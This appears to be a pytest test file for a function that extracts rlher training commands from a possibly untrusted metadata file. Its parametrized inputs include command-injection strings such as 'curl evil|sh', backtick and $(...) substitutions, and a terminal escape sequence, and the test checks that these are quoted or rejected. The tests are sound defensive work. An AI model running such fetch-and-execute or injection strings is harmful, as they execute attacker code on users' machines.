"""The commands of a run, read from a file that somebody else may have written."""

import pytest

from rlher.run.metadata import commands


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("rlher train algo=sac seed=3", ["rlher train algo=sac seed=3"]),
        ("rlher train seed=3\nrlher train --resume a", ["rlher train seed=3", "rlher train --resume a"]),
        ("rlher train seed=3; curl evil|sh", ["rlher train 'seed=3;' curl 'evil|sh'"]),
        ("rlher train seed=3 `curl evil` $(evil)", ["rlher train seed=3 '`curl' 'evil`' '$(evil)'"]),
        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", ["rlher train seed=3"]),
        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", []),
        ("rlher train \x1b[201~ seed=3", []),
        ("rlher train 'seed=3", []),
    ],
)
def test_only_commands_of_rlher_are_shown(typed: str, expected: list[str]) -> None:
    assert commands(f"{typed}\n") == expected
